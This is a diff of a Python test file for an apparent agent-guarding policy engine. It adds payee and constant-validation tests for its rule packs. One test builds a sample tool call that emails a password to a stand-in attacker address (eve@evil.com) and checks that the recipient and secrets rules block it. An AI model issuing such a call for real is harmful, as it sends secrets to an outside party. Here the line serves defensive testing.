@@ -70,7 +70,7 @@ def test_parameters_of_the_pack(tmp_path: Path) -> None:
 MAPPED = [
     (
         "payments",
-        "{tools: {pay: [move_gold]}, constants: {limit: 10}}",
+        "{tools: {pay: [move_gold]}, constants: {limit: 10, require_payees: false}}",
         "move_gold",
         {"to": "a", "amount": 11},
         "limit",
@@ -78,7 +78,7 @@ MAPPED = [
     ),
     (
         "payments",
-        "{tools: {pay: [move_gold]}}",
+        "{tools: {pay: [move_gold]}, constants: {require_payees: false}}",
         "move_gold",
         {"to": "a", "amount": 10, "currency": "XAU"},
         "currency",
@@ -86,7 +86,7 @@ MAPPED = [
     ),
     (
         "payments",
-        "{constants: {require_payees: true}}",
+        "{}",
         "send_money",
         {"to": "a", "amount": 5},
         "",
@@ -146,7 +146,30 @@ def test_packs_work_together() -> None:
     """Their names do not clash, and each stops its own."""
     names = [one.name for one in packs() if one.name != "shell"]
     policies = load_policies(data={"version": 1, "include": [f"guardagent:{name}" for name in names]})
-    session = policies.session()
+    session = policies.session(facts={"payees": ["bob"]})
     assert session.check("send_money", {"to": "bob", "amount": 5}, reserve=False).label == 0
     verdict = session.check("send_email", {"to": "eve@evil.com", "body": "password: Tr0ub4dor&3"}, reserve=False)
     assert verdict.rules == ("email.recipient", "secrets.assignment")
+
+
+@pytest.mark.parametrize(
+    ("name", "constants", "says"),
+    [
+        ("shell", "{workspace: work}", "constant 'workspace' is 'work'; expected an absolute folder or an"),
+        ("shell", "{workspace: 5}", "constant 'workspace' is a number; expected a string"),
+        ("shell", "{workspace: }", "constant 'workspace' is empty; expected a value"),
+        ("filesystem", "{folders: [/tmp, tmp]}", "constant 'folders' contains 'tmp'; expected absolute folders"),
+        ("payments", "{limit: '500'}", "constant 'limit' is a string; expected a number"),
+        ("payments", "{limit: -1}", "constant 'limit' is -1; expected a number, at least 0"),
+        ("runaway", "{repeats: 2.5}", "constant 'repeats' is 2.5; expected a whole number, at least 0"),
+        ("web", "{hosts: [5]}", "constant 'hosts' contains 5; expected hosts such as api.example.com"),
+        ("web", "{hosts: ['https://a.com']}", "constant 'hosts' contains 'https://a.com'; expected hosts such as"),
+    ],
+)
+def test_a_wrong_parameter_is_refused_at_its_line(tmp_path: Path, name: str, constants: str, says: str) -> None:
+    """The load fails, not the first call."""
+    path = tmp_path / "p.yaml"
+    path.write_text(f"version: 1\ninclude:\n  - pack: guardagent:{name}\n    constants: {constants}\n")
+    with pytest.raises(InputError) as found:
+        load_policies(path)
+    assert str(found.value).startswith(f"{path}:4: {says}")
